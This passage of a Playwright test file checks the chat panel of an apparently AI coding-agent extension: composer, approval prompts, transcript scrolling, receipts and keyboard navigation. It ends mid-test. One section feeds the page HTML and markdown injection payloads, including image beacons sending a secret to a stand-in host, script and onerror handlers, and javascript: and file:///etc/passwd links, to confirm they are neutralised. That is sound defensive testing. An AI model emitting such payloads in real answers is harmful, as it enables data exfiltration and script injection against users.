import assert from 'node:assert/strict';
import type { Detail } from '../../src/protocol/detail.ts';
import type { ApprovalView, HostMessage, PanelState } from '../../src/protocol/messages.ts';
import type { Item } from '../../src/protocol/transcript.ts';
import { type ChatPage, PageHarness, type PageOptions } from './pageHarness/openPage.ts';
import { editApproval, idle, panelStates, plan } from './pageHarness/states.ts';

const user = (id: string, text = `Question ${id}`): Item => ({ kind: 'user', id, text, chips: [] });
const prose = (id: string, text: string, state: 'streaming' | 'done' = 'done'): Item => ({
	kind: 'text',
	id,
	text,
	state,
});

/** Turns of a question and an answer of a few lines. */
function conversation(count: number): Item[] {
	return Array.from({ length: count }, (_, index) =>
		index % 2 === 0
			? user(`i${index}`)
			: prose(`i${index}`, `Answer ${index}.\n\nWith a second paragraph.\n\nAnd a third.`),
	);
}

function snapshotOf(items: readonly Item[], from = 0, total = items.length, state = idle): HostMessage {
	return { type: 'snapshot', state, total, from, items, view: 'chat' };
}

const running = { ...idle, activity: 'running' } as const;

describe('the chat page', function () {
	this.timeout(60_000);
	let harness: PageHarness;
	let opened: ChatPage[] = [];

	before(async () => {
		harness = await PageHarness.start();
	});
	after(() => harness?.stop());
	afterEach(async () => {
		const complaints = opened.flatMap(chat => chat.complaints);
		await Promise.all(opened.map(chat => chat.close()));
		opened = [];
		assert.deepEqual(complaints, []);
	});

	async function open(messages: readonly HostMessage[], options: PageOptions = {}): Promise<ChatPage> {
		const chat = await harness.open(options);
		opened.push(chat);
		await chat.send(...messages);
		await chat.takePosted();
		return chat;
	}

	describe('composer', () => {
		it('sends with Enter, breaks the line with Shift+Enter, and leaves Enter to an input method', async () => {
			const chat = await open([snapshotOf([])]);
			const text = chat.page.getByLabel('Message', { exact: true });
			await text.click();
			await text.pressSequentially('one');
			await text.press('Shift+Enter');
			await text.pressSequentially('two');
			await text.evaluate(element =>
				element.dispatchEvent(
					new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }),
				),
			);
			assert.deepEqual(await chat.takePosted(), []);
			await text.press('Enter');
			assert.deepEqual(await chat.takePosted(), [{ type: 'send', text: 'one\ntwo' }]);
			assert.equal(await text.inputValue(), '');
			await text.press('Enter');
			assert.deepEqual(await chat.takePosted(), []);
		});

		it('grows with its text up to two fifths of the view', async () => {
			const chat = await open([snapshotOf([])], { height: 700 });
			const text = chat.page.getByLabel('Message', { exact: true });
			const height = async () => (await text.boundingBox())?.height ?? 0;
			assert.equal(await height(), 30);
			await text.fill('a\nb\nc\nd');
			assert.ok((await height()) > 80);
			await text.fill('line\n'.repeat(60));
			assert.equal(Math.round(await height()), 280);
		});

		it('offers Stop while a turn runs, and sends what is typed besides', async () => {
			const chat = await open([snapshotOf([user('u1')], 0, 1, running)]);
			await chat.page.getByRole('button', { name: 'Stop' }).click();
			await chat.page.getByLabel('Message', { exact: true }).fill('and tabs');
			await chat.page.getByRole('button', { name: 'Send with the next step' }).click();
			await chat.page.keyboard.press('Escape');
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'stop' },
				{ type: 'send', text: 'and tabs' },
				{ type: 'stop' },
			]);
		});

		it('keeps the draft when the page is rebuilt, and takes one from the host', async () => {
			const chat = await open([snapshotOf([])]);
			await chat.page.getByLabel('Message', { exact: true }).fill('half a thought');
			await chat.page.reload();
			await chat.waitFor('ready');
			await chat.send(snapshotOf([]));
			assert.equal(await chat.page.getByLabel('Message', { exact: true }).inputValue(), 'half a thought');
			await chat.send({ type: 'draft', text: 'given back' });
			assert.equal(await chat.page.getByLabel('Message', { exact: true }).inputValue(), 'given back');
		});

		it('names what the editor offers, and sends a suggestion together with the file it is about', async () => {
			const chat = await open(panelStates['empty-no-key'] ?? []);
			await chat.page.getByRole('button', { name: 'Outline the open file' }).click();
			await chat.page.getByRole('button', { name: 'parse.ts:40-46' }).click();
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'toggleChip', id: 'lines' },
				{ type: 'send', text: 'Outline the open file' },
				{ type: 'toggleChip', id: 'lines' },
			]);
		});
	});

	describe('approval', () => {
		const waiting = (approval: ApprovalView): HostMessage => ({
			type: 'state',
			state: { ...idle, activity: 'waiting', approval },
		});

		it('is answered by its buttons with the nonce that was shown', async () => {
			const chat = await open(panelStates['approval'] ?? []);
			await chat.page.getByRole('button', { name: 'Allow once' }).click();
			await chat.send(waiting({ ...editApproval, nonce: 'n-3' }));
			await chat.page.getByRole('button', { name: 'More ways to allow' }).click();
			await chat.page.getByRole('menuitem', { name: 'Allow in this session' }).click();
			await chat.page.getByRole('button', { name: 'Deny' }).click();
			const answers = (await chat.takePosted()).filter(({ type }) => type === 'answer');
			assert.deepEqual(answers, [
				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'once' },
				{ type: 'answer', callId: 'c3', nonce: 'n-3', allow: 'session' },
				{ type: 'answer', callId: 'c3', nonce: 'n-3', allow: 'no' },
			]);
		});

		it('takes a double click as one answer, so that the next question is read first', async () => {
			const chat = await open(panelStates['approval'] ?? []);
			await chat.page.getByRole('button', { name: 'Allow once' }).dblclick();
			assert.equal((await chat.takePosted()).length, 1);
		});

		it('is answered by keys from the text, and by what is typed there', async () => {
			const chat = await open(panelStates['approval'] ?? []);
			const text = chat.page.getByLabel('Message', { exact: true });
			await text.press('Control+Enter');
			await text.press('Control+Escape');
			assert.equal(await text.getAttribute('placeholder'), 'Say what to do instead');
			await text.fill('use map');
			await text.press('Enter');
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'once' },
				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'no' },
				{ type: 'answer', callId: 'c3', nonce: 'n-1', allow: 'no', instead: 'use map' },
			]);
		});

		it('does not take the focus, and offers nothing but this once where nothing else is offered', async () => {
			const chat = await open([snapshotOf([user('u1')], 0, 1, running)]);
			await chat.page.getByLabel('Message', { exact: true }).focus();
			const { offer: _, ...approval } = editApproval;
			await chat.send(waiting(approval));
			assert.equal(await chat.page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Message');
			assert.equal(await chat.page.getByRole('button', { name: 'More ways to allow' }).count(), 0);
		});

		it('offers the scopes that hold, with the rule whole, and takes each', async () => {
			const rule = `npm run ${'build:'.repeat(40)} …`;
			const chat = await open([snapshotOf([user('u1')], 0, 1, running)], { width: 260 });
			for (const scope of ['session', 'workspace', 'always'] as const) {
				const offer = { rule, scopes: ['session', 'workspace', 'always'] } as const;
				await chat.send(waiting({ ...editApproval, nonce: scope, offer }));
				await chat.page.getByRole('button', { name: 'More ways to allow' }).press('ArrowDown');
				await chat.page.getByRole('menu').waitFor();
				assert.equal(await chat.page.locator('.menu-rule').textContent(), rule);
				const items = chat.page.getByRole('menuitem');
				const at = offer.scopes.indexOf(scope);
				for (let step = 0; step < at; step++) {
					await items.nth(step).press('ArrowDown');
				}
				await items.nth(at).press('Enter');
			}
			assert.deepEqual(await chat.page.getByRole('menuitem').count(), 0);
			assert.deepEqual(
				(await chat.takePosted()).map(message => (message.type === 'answer' ? [message.nonce, message.allow] : [])),
				[
					['session', 'session'],
					['workspace', 'workspace'],
					['always', 'always'],
				],
			);
		});

		it('leads to the text for a reason, which denies', async () => {
			const chat = await open(panelStates['approval-long-command'] ?? []);
			await chat.page.getByRole('button', { name: 'Say why…' }).click();
			await chat.send();
			assert.equal(await focusedName(chat), 'Message');
			await chat.page.keyboard.type('only list them');
			await chat.page.keyboard.press('Enter');
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'answer', callId: 'a1', nonce: 'n-a', allow: 'no', instead: 'only list them' },
			]);
		});

		it('keeps every character of a command, its reasons and its buttons in sight, however long it is', async () => {
			const command = Array.from({ length: 90 }, (_, at) => `echo ${at} ${'x'.repeat(300)}`).join('\n');
			const detail = { kind: 'command', command, directory: 'a/b' } as const;
			const reasons = Array.from({ length: 6 }, (_, at) => `A reason of which there are many, number ${at}.`);
			const approval = { ...editApproval, title: 'Run this command?', reasons, detail };
			const chat = await open([snapshotOf([user('u1')], 0, 1, running), waiting(approval)], { width: 260 });
			assert.equal(await chat.page.getByLabel('Command', { exact: true }).textContent(), command);
			const body = chat.page.locator('.approval-body');
			assert.ok(
				await body.evaluate(element => element.scrollHeight > element.clientHeight && element.clientHeight >= 60),
			);
			assert.ok(await isWhollySeen(chat, '.approval-reason'));
			assert.ok(await isWhollySeen(chat, '.approval-buttons'));
			await body.evaluate(element => element.scrollTo(0, element.scrollHeight));
			assert.ok(await isWhollySeen(chat, '.detail-line'));
		});

		it('lists several calls: what would run is in sight, changes open on demand', async () => {
			const chat = await open(panelStates['approval-several'] ?? []);
			const card = chat.page.getByRole('group', { name: /Allow 3 calls/ });
			assert.equal(await card.getByRole('listitem').locator('.command').count(), 1);
			assert.equal(await card.locator('.diff').count(), 0);
			await card.getByRole('button', { name: /Edit parse\.ts\?/ }).press('Enter');
			assert.equal(await card.locator('.diff').count(), 1);
			await card.getByRole('button', { name: 'Allow once' }).click();
			assert.deepEqual(await chat.takePosted(), [{ type: 'answer', callId: 'a1', nonce: 'n-a', allow: 'once' }]);
		});

		it('shows all of a large diff in a body that scrolls, with the buttons in sight', async () => {
			const lines = Array.from({ length: 400 }, (_, index) => `+line ${index}`);
			const detail = { kind: 'diff', path: 'a.ts', hunks: [{ oldStart: 1, newStart: 1, lines }] } as const;
			const chat = await open([snapshotOf([user('u1')], 0, 1, running), waiting({ ...editApproval, detail })]);
			assert.equal(await chat.page.locator('.approval .diff-line').count(), 400);
			await chat.page.getByText('line 399').scrollIntoViewIfNeeded();
			const box = await chat.page.getByRole('button', { name: 'Deny' }).boundingBox();
			assert.ok(box !== null && box.y + box.height < 720);
		});
	});

	describe('transcript', () => {
		it('opens at the end and stays there while text arrives', async () => {
			const items = [...conversation(41), prose('open', 'Start.', 'streaming')];
			const chat = await open([snapshotOf(items, 0, items.length, running)]);
			for (let index = 0; index < 20; index++) {
				await chat.send({ type: 'deltas', deltas: [{ type: 'append', index: 41, text: `\n\nParagraph ${index}` }] });
				assert.ok((await distanceFromEnd(chat)) < 2);
			}
		});

		it('does not move while the user reads above, until a message is sent', async () => {
			const items = [...conversation(41), prose('open', 'Start.', 'streaming')];
			const chat = await open([snapshotOf(items, 0, items.length, running)]);
			await scrollBy(chat, -600);
			const before = await topEntry(chat);
			const append = { type: 'append', index: 41, text: '\n\nMore text.\n\nAnd more.' } as const;
			await chat.send({ type: 'deltas', deltas: [append, append, append] });
			assert.deepEqual(await topEntry(chat), before);
			assert.ok(await chat.page.getByRole('button', { name: 'To the end' }).isVisible());
			await chat.send({ type: 'deltas', deltas: [{ type: 'add', index: 42, item: user('new') }] });
			assert.ok((await distanceFromEnd(chat)) < 2);
			assert.equal(await chat.page.getByRole('button', { name: 'To the end' }).count(), 0);
		});

		it('asks for earlier items near the top and keeps its place when they come', async () => {
			const all = conversation(500);
			const chat = await open([snapshotOf(all.slice(440), 440, 500)]);
			await scrollBy(chat, -100_000);
			assert.deepEqual(await chat.waitFor('range'), { type: 'range', before: 440, count: 60 });
			const before = await topEntry(chat);
			await chat.takePosted();
			await chat.send({ type: 'items', from: 380, items: all.slice(380, 440) });
			const after = await topEntry(chat);
			assert.equal(after.id, before.id);
			assert.ok(Math.abs(after.offset - before.offset) <= 1, `${before.offset} became ${after.offset}`);
		});

		it('never holds more than its window, and comes back to the end', async () => {
			const all = conversation(1000);
			const chat = await open([snapshotOf(all.slice(940), 940, 1000)]);
			for (let from = 940; from > 500; from -= 60) {
				await scrollBy(chat, -100_000);
				await chat.waitFor('range');
				await chat.takePosted();
				const before = await topEntry(chat);
				await chat.send({ type: 'items', from: from - 60, items: all.slice(from - 60, from) });
				assert.deepEqual(await topEntry(chat), before);
			}
			assert.ok((await chat.page.locator('[data-entry]').count()) <= 200);
			await chat.page.getByRole('button', { name: 'To the end' }).click();
			assert.deepEqual(await chat.waitFor('range'), { type: 'range', before: 1000, count: 60 });
			await chat.send({ type: 'items', from: 940, items: all.slice(940) });
			assert.ok((await distanceFromEnd(chat)) < 2);
			assert.equal(await chat.page.locator('[data-entry]').last().getAttribute('data-entry'), 'i999');
		});

		it('asks for a snapshot when it is out of step', async () => {
			const chat = await open([snapshotOf(conversation(4))]);
			await chat.send({ type: 'deltas', deltas: [{ type: 'add', index: 9, item: user('x') }] });
			const posted = await chat.takePosted();
			assert.deepEqual(
				posted.map(({ type }) => type),
				['pageError', 'ready'],
			);
		});

		it('comes back to the same place when the page is rebuilt', async () => {
			const items = conversation(60);
			const chat = await open([snapshotOf(items)]);
			await scrollBy(chat, -900);
			const before = await topEntry(chat);
			await chat.page.reload();
			await chat.waitFor('ready');
			await chat.send(snapshotOf(items));
			const after = await topEntry(chat);
			assert.equal(after.id, before.id);
			assert.ok(Math.abs(after.offset - before.offset) <= 1);
		});

		it('touches only the open block of a growing answer', async () => {
			const chat = await open([
				snapshotOf([user('u1'), prose('t1', 'First.\n\nSecond **bold', 'streaming')], 0, 2, running),
			]);
			await chat.page.evaluate(() => {
				const changes: string[] = [];
				Object.assign(globalThis, { changes });
				new MutationObserver(records => {
					for (const { target } of records) {
						const block =
							target instanceof Element ? target.closest('.block') : target.parentElement?.closest('.block');
						changes.push(block?.textContent?.slice(0, 5) ?? 'outside');
					}
				}).observe(document.body, { subtree: true, childList: true, characterData: true });
			});
			await chat.send({ type: 'deltas', deltas: [{ type: 'append', index: 1, text: ' text** and more' }] });
			const changes = await chat.page.evaluate(() => (globalThis as unknown as { changes: string[] }).changes);
			assert.ok(changes.length > 0);
			assert.deepEqual([...new Set(changes)], ['Secon']);
		});

		it('folds the finished rows of a turn that is over, and leaves failed ones in sight', async () => {
			const chat = await open(panelStates['done'] ?? []);
			assert.equal(await chat.page.getByText('Searched').count(), 0);
			assert.ok(await chat.page.getByText('The pattern is not a regular expression').isVisible());
			const fold = chat.page.getByRole('button', { name: 'Worked 4 steps' });
			await fold.click();
			assert.equal(await chat.page.getByText('Searched').count(), 1);
		});

		it('opens files, diffs and links through the host alone', async () => {
			const chat = await open(panelStates['working'] ?? []);
			await chat.page.getByRole('link', { name: 'src/parse.ts' }).click();
			await chat.page.getByRole('link', { name: 'test/parse.test.ts:12' }).click();
			await chat.page.getByRole('link', { name: 'the documentation' }).click();
			await chat.page.getByRole('button', { name: 'Insert at cursor' }).click();
			await chat.page.getByRole('button', { name: 'Copy', exact: true }).click();
			await chat.page.getByRole('button', { name: 'Edited src/parse.ts done' }).click();
			await chat.page.getByRole('button', { name: 'Open diff' }).click();
			const code =
				'export function parse(text: string): Token[] {\n' +
				'	return words(text).map((word, at) => ({ word, at, isLast: at === words.length - 1 }));\n' +
				'} // one pass, no second next()\n';
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'openFile', path: 'src/parse.ts', line: 41 },
				{ type: 'openFile', path: 'test/parse.test.ts', line: 12 },
				{ type: 'openLink', url: 'https://example.com/parse' },
				{ type: 'insert', text: code },
				{ type: 'copy', text: code },
				{ type: 'openDiff', callId: 'c4' },
			]);
			assert.equal(await chat.page.getByRole('status').textContent(), 'Copied');
			assert.equal(new URL(chat.page.url()).hash, '');
		});
	});

	describe('lines between the answers', () => {
		it('count down once a second, are told once, and lead on', async () => {
			const chat = await open([snapshotOf([user('u1')], 0, 1, running)]);
			await chat.page.clock.install();
			const until = await chat.page.evaluate(() => Date.now() + 7_200_000);
			const item: Item = {
				kind: 'notice',
				id: 'n1',
				icon: 'refresh',
				text: 'Rate limited by P. Trying again in {0} s.',
				until,
				actions: [
					{ action: 'retryNow', label: 'Try now' },
					{ action: 'chooseModel', label: 'Other model' },
					{ action: 'stop', label: 'Stop' },
				],
			};
			await chat.send({ type: 'deltas', deltas: [{ type: 'add', index: 1, item }] });
			const seconds = async () =>
				Number(/in (\d+) s/.exec((await chat.page.locator('.notice').textContent()) ?? '')?.[1]);
			const before = await seconds();
			assert.ok(before > 7_000 && before <= 7_200, String(before));
			const told = await chat.page.getByRole('status').textContent();
			assert.match(told ?? '', /^Rate limited by P\. Trying again in \d+ s\.$/);
			await chat.page.clock.fastForward(3_600_000);
			await chat.page.waitForFunction(
				least => Number(/in (\d+) s/.exec(document.querySelector('.notice')?.textContent ?? '')?.[1]) <= least,
				before - 3_600,
			);
			assert.equal(await chat.page.getByRole('status').textContent(), told);
			for (const name of ['Try now', 'Other model', 'Stop']) {
				await chat.page.locator('.notice').getByRole('button', { name }).click();
			}
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'action', action: 'retryNow' },
				{ type: 'action', action: 'chooseModel' },
				{ type: 'action', action: 'stop' },
			]);
			const { until: _until, actions: _actions, ...tried } = { ...item, text: 'Rate limited by P. Tried again.' };
			await chat.send({ type: 'deltas', deltas: [{ type: 'set', index: 1, item: tried }] });
			assert.equal((await chat.page.locator('.notice').textContent())?.trim(), 'Rate limited by P. Tried again.');
		});

		it('show on demand what a compaction kept', async () => {
			const chat = await open(panelStates['receipts'] ?? []);
			const toggle = chat.page.getByRole('button', { name: 'Show what was kept' });
			await toggle.click();
			assert.ok(await chat.page.getByText('The parser reads one token per turn').isVisible());
			await chat.page.getByRole('button', { name: 'Hide what was kept' }).click();
			assert.equal(await chat.page.getByText('The parser reads one token per turn').count(), 0);
		});
	});

	describe('receipt', () => {
		const shownParts = (chat: ChatPage) =>
			chat.page.locator('.receipt-label').evaluate(label => {
				const { bottom } = label.getBoundingClientRect();
				return [...label.querySelectorAll('.receipt-part')]
					.filter(part => part.getBoundingClientRect().top < bottom)
					.map(part => part.textContent);
			});

		for (const [width, parts] of [
			[260, ['$0.031', 'Sonnet 5']],
			[400, ['$0.031', 'Sonnet 5', '93% cached', '24 s', 'Google Vertex']],
			[700, ['$0.031', 'Sonnet 5', '93% cached', '24 s', 'Google Vertex', '18.4k in, 812 out']],
		] as const) {
			it(`shows at ${width} px as many of its parts as fit, each of them whole`, async () => {
				const chat = await open(panelStates['receipts'] ?? [], { width });
				assert.deepEqual(await shownParts(chat), parts);
				const name = await chat.page.locator('.receipt-label').textContent();
				assert.match(name ?? '', /Google Vertex.*18\.4k in, 812 out/);
			});
		}

		it('opens a table of its requests', async () => {
			const chat = await open(panelStates['receipts'] ?? [], { width: 260 });
			await chat.page.locator('.receipt-label').click();
			const table = chat.page.getByRole('table', { name: 'Requests of this turn' });
			assert.deepEqual(await table.getByRole('columnheader').allTextContents(), ['In', 'Out', 'Time', 'Cost']);
			assert.deepEqual(await table.getByRole('rowheader').allTextContents(), [
				'1. Answer, rate limited · Anthropic',
				'2. Answer · Google Vertex · Claude Sonnet 5',
				'3. Answer, interrupted · Google Vertex · Claude Sonnet 5',
				'4. Answer · Google Vertex · anthropic/claude-5-sonnet-20260801',
			]);
			assert.deepEqual(await table.getByRole('row').last().getByRole('cell').allInnerTexts(), [
				'9.3k\n9k cached\n240 written',
				'382',
				'8 s\nfirst 0.6 s',
				'$0.0071',
			]);
			assert.ok(await chat.page.getByText('Once another provider answered').isVisible());
		});
	});

	it('offers the reasoning effort where the model has a choice', async () => {
		const chat = await open([snapshotOf([])]);
		await chat.page.getByRole('button', { name: 'Reasoning effort: Medium' }).click();
		assert.deepEqual(await chat.takePosted(), [{ type: 'action', action: 'chooseEffort' }]);
		const { effort: _, ...model } = idle.model;
		await chat.send({ type: 'state', state: { ...idle, model } });
		assert.equal(await chat.page.getByRole('button', { name: /Reasoning effort/ }).count(), 0);
	});

	describe('permissions', () => {
		it('are chosen from menus that say what each means, and shown as the host has them', async () => {
			const chat = await open([snapshotOf([user('u1')])]);
			await chat.page.getByRole('button', { name: 'Mode: Agent' }).press('ArrowUp');
			await chat.page.getByRole('menuitemradio', { name: /^Agent/, checked: true }).press('ArrowDown');
			await chat.page.keyboard.press('Enter');
			await chat.page.getByRole('button', { name: 'Approvals: Ask first' }).click();
			await chat.page.getByRole('menuitemradio', { name: /^Allow everything/ }).click();
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'setMode', mode: 'ask' },
				{ type: 'setLevel', level: 'everything' },
			]);
			assert.equal(await chat.page.getByRole('button', { name: 'Approvals: Ask first' }).count(), 1);
			assert.equal(await chat.page.locator('.everything').count(), 0);
			await chat.send({ type: 'state', state: { ...idle, mode: 'ask', level: 'everything' } });
			assert.equal(await chat.page.getByRole('button', { name: 'Mode: Ask' }).count(), 1);
			await chat.page.locator('.everything').getByRole('button', { name: 'Ask first' }).click();
			await chat.page.keyboard.press('Control+.');
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'setLevel', level: 'ask' },
				{ type: 'setMode', mode: 'agent' },
			]);
		});

		it('cannot be set where the host does not let them, and say why', async () => {
			const chat = await open(panelStates['untrusted'] ?? []);
			const mode = chat.page.getByRole('button', { name: 'Mode: Ask' });
			assert.equal(await mode.getAttribute('title'), 'This folder is not trusted: reading only');
			await mode.click({ force: true });
			await mode.press('ArrowDown');
			await chat.page.keyboard.press('Control+.');
			assert.equal(await chat.page.getByRole('menu').count(), 0);
			assert.deepEqual(await chat.takePosted(), []);
		});
	});

	describe('work in progress', () => {
		const row: Extract<Item, { kind: 'tool' }> = {
			...{ kind: 'tool', id: 'c1', name: 'bash', state: 'running', verb: 'Running', subject: 'npm test', note: '' },
		};
		const output = (text: string, openLine = ''): HostMessage => ({
			type: 'deltas',
			deltas: [{ type: 'output', index: 1, text, openLine, isCut: false }],
		});
		const lines = (count: number) => Array.from({ length: count }, (_, at) => `line ${at}\n`).join('');

		it('opens to what a command prints, follows its end unless one reads above, and folds at the end', async () => {
			const chat = await open([snapshotOf([user('u1')], 0, 1, running)]);
			await chat.page.clock.install();
			await chat.send({ type: 'deltas', deltas: [{ type: 'add', index: 1, item: row }] }, output(lines(40)));
			await chat.page.clock.fastForward(1000);
			const live = chat.page.getByLabel('Output so far');
			await live.waitFor();
			const fromEnd = () => live.evaluate(box => Math.round(box.scrollHeight - box.scrollTop - box.clientHeight));
			assert.equal(await fromEnd(), 0);
			await chat.send(output('more\n'.repeat(5), '50 %'));
			assert.equal(await fromEnd(), 0);
			await live.evaluate(
				box =>
					new Promise<void>(resolve => {
						box.addEventListener('scroll', () => resolve(), { once: true });
						box.scrollTop = 0;
					}),
			);
			await chat.send(output('and more\n'));
			assert.equal(await live.evaluate(box => box.scrollTop), 0);
			assert.ok((await live.textContent())?.endsWith('50 %') === false);
			const detail = { kind: 'command', command: 'npm test', output: 'ok' } as const;
			const item = { ...row, state: 'done', verb: 'Ran', note: 'exit code 0, 2 s', detail } as const;
			await chat.send({ type: 'deltas', deltas: [{ type: 'set', index: 1, item }] });
			assert.equal(await chat.page.locator('.output').count(), 0);
			await chat.page.getByRole('button', { name: 'Ran npm test done' }).click();
			assert.deepEqual(await chat.page.locator('.output').allTextContents(), ['npm test', 'ok']);
		});

		it('holds no more of endless output than its end', async () => {
			const chat = await open([snapshotOf([user('u1'), row], 0, 2, running)]);
			for (let step = 0; step < 30; step++) {
				await chat.send(output(lines(100)));
			}
			await chat.page.getByLabel('Output so far').waitFor();
			const text = (await chat.page.getByLabel('Output so far').textContent()) ?? '';
			assert.ok(text.startsWith('… earlier output is not shown here\n') && text.endsWith('line 99\n'));
			assert.ok(text.length < 9000, String(text.length));
		});

		it('opens the transcript of another agent from its row', async () => {
			const chat = await open(panelStates['commands'] ?? []);
			await chat.page.getByRole('button', { name: 'Open transcript' }).click();
			assert.deepEqual(await chat.takePosted(), [{ type: 'openDelegate', sessionId: 's9' }]);
		});

		it('shows the plan in a line that opens, but not while a question is up', async () => {
			const chat = await open(panelStates['plan-open'] ?? []);
			const label = chat.page.getByRole('button', { name: /^Plan: Run the tests.*1 of 4$/ });
			await label.click();
			assert.match((await chat.page.locator('[aria-current="step"]').textContent()) ?? '', /Run the tests/);
			const state: PanelState = { ...idle, activity: 'waiting', approval: editApproval };
			await chat.send({ type: 'state', state: { ...state, plan } });
			assert.equal(await label.getAttribute('aria-expanded'), 'false');
			await chat.send({ type: 'state', state });
			assert.equal(await label.count(), 0);
		});
	});

	describe('hostile answers', () => {
		it('load nothing, make no element of their own and lead nowhere', async () => {
			const text = [
				'![x](http://l.example/?k=SECRET) <img src=http://l.example/a onerror="top.pwned=1"> ![r][r]',
				'[![a](http://l.example/b)](http://l.example/c)',
				'<script>top.pwned = 1</script>',
				'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
				'<form action="http://l.example"><button>go</button></form>',
				'<base href="http://l.example"><meta http-equiv="refresh" content="0;url=http://l.example">',
				'<style>@import "http://l.example/s.css";</style> <p style="background:url(http://l.example/u)">u</p>',
				'![s](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage%20href=%22http://l.example/s%22/%3E%3C/svg%3E)',
				'<link rel="stylesheet" href="http://l.example/l"><object data="http://l.example/o"></object>',
				'<svg onload="top.pwned=1"><image href="http://l.example/i"/></svg>',
				'```mermaid\n%%{init: {"htmlLabels": true}}%%\nA["<img src=http://l.example/m>"]\nclick A href "http://l.example"\n```',
				'[a](javascript:top.pwned=1) [b](command:workbench.action.quit) [c](vscode://x/y) [d](file:///etc/passwd)',
				'[e](//l.example/x) [f](\\\\l.example\\share) [g](https://good.example@l.example/) [h](data:text/html,x)',
				'[r]: http://l.example/r',
			].join('\n\n');
			const chat = await open([snapshotOf([prose('t1', text), user('u1', text)])]);
			// Its address comes last, and the page draws a long answer bit by bit.
			await chat.page.getByText('r', { exact: true }).and(chat.page.locator('a')).waitFor();
			assert.deepEqual(chat.foreignRequests, []);
			const found = await chat.page.evaluate(() => ({
				elements: document.querySelectorAll(
					'#app :is(img, script, iframe, form, base, meta, style, svg, object, embed, link, [style])',
				).length,
				links: [...document.querySelectorAll('a')].map(link => link.textContent),
				pwned: 'pwned' in globalThis,
			}));
			assert.deepEqual(found, { elements: 0, links: ['x', 'r', 'a'], pwned: false });
			for (const link of await chat.page.locator('a').all()) {
				await link.click();
			}
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'openLink', url: 'http://l.example/?k=SECRET' },
				{ type: 'openLink', url: 'http://l.example/r' },
				{ type: 'openLink', url: 'http://l.example/c' },
			]);
			assert.deepEqual(chat.foreignRequests, []);
		});

		it('are text in rows, questions, plans and live output as well', async () => {
			const text =
				'<img src="http://l.example/i" onerror="top.pwned=1">![x](http://l.example/m)[y](http://l.example/y)';
			const details: readonly Detail[] = [
				{ kind: 'text', text },
				{ kind: 'command', command: text, directory: text, output: text },
				{ kind: 'url', parts: [{ text, look: 'host' }] },
				{ kind: 'foreign', server: text, tool: text, input: text },
				{ kind: 'matches', matches: [{ path: text, line: 1, text }], more: 0 },
				{ kind: 'diff', path: text, hunks: [{ oldStart: 1, newStart: 1, lines: [`+${text}`] }] },
			];
			const rows = details.map(
				(detail, at): Item => ({
					...{ kind: 'tool', id: `c${at}`, name: text, state: 'failed', verb: text, subject: text, note: text },
					...{ detail, allowedBy: [text], live: { text, openLine: text, isCut: true } },
				}),
			);
			const approval: ApprovalView = {
				...{ callId: 'a', nonce: 'n', title: text, folder: text, reasons: [text, `${text}!`], agent: text },
				...{ offer: { rule: text, scopes: ['session'] }, position: 1, total: 1 },
				items: details.map((detail, at) => ({ id: `i${at}`, title: text, reasons: [text], detail })),
			};
			const plan = [{ text, status: 'active' }] as const;
			const state: PanelState = { ...idle, activity: 'waiting', approval, plan, cost: text };
			const chat = await open([snapshotOf(rows, 0, rows.length, state)]);
			await chat.page.locator('.plan-label').click();
			await chat.page.locator('.split-more').click();
			const made = await chat.page.evaluate(() => document.querySelectorAll('#app :is(img, a)').length);
			assert.equal(made, 0);
			assert.deepEqual(chat.foreignRequests, []);
			assert.equal(await chat.page.evaluate(() => 'pwned' in globalThis), false);
		});
	});

	describe('keyboard', () => {
		it('goes with Tab in reading order, with the transcript as one stop besides what the current message holds', async () => {
			const chat = await open(panelStates['approval'] ?? []);
			await chat.page.evaluate(() => document.body.focus());
			await chat.page.getByRole('button', { name: 'All sessions' }).focus();
			const stops = [await focusedName(chat)];
			for (let index = 0; index < 20 && stops.at(-1) !== 'Stop (Escape)'; index++) {
				await chat.page.keyboard.press('Tab');
				stops.push(await focusedName(chat));
			}
			assert.deepEqual(stops, [
				'All sessions',
				'More actions',
				'Agent',
				'src/parse.ts',
				'Thought for 4 s done',
				'src/parse.ts',
				'1 file 6 added, 2 removed+6 −2',
				'Keep',
				'Undo',
				'Changes of src/parse.ts',
				'Allow once',
				'More ways to allow',
				'Deny',
				'Say why…',
				'Message',
				'Attach images',
				'Mode: Agent',
				'Model: Claude Sonnet 5, $3/$15',
				'Reasoning effort: Medium',
				'Stop (Escape)',
			]);
		});

		it('moves between messages with arrows, into one with Enter and out with Escape', async () => {
			const chat = await open([
				snapshotOf([user('u1'), prose('t1', 'See [x](src/x.ts).'), user('u2'), prose('t2', 'End.')]),
			]);
			await chat.page.getByLabel('Message', { exact: true }).focus();
			await chat.page.keyboard.press('Control+ArrowUp');
			const steps = [await focusedName(chat)];
			for (const key of ['ArrowUp', 'ArrowUp', 'Enter', 'Escape', 'Home', 'End']) {
				await chat.page.keyboard.press(key);
				steps.push(await focusedName(chat));
			}
			assert.deepEqual(steps, ['Agent', 'You', 'Agent', 'x', 'Agent', 'You', 'Agent']);
			assert.deepEqual(await chat.takePosted(), []);
		});

		it('opens a menu with an arrow, moves in it, and gives the focus back', async () => {
			const chat = await open([snapshotOf(conversation(2))]);
			await chat.page.getByRole('button', { name: 'More actions' }).focus();
			const names: string[] = [];
			for (const key of ['ArrowDown', 'ArrowDown', 'ArrowDown', 'Escape']) {
				await chat.page.keyboard.press(key);
				await chat.send();
				names.push(await focusedName(chat));
			}
			assert.deepEqual(names, ['New session', 'Delete session', 'New session', 'More actions']);
		});

		it('finds, opens and deletes sessions', async () => {
			const chat = await open(panelStates['sessions'] ?? []);
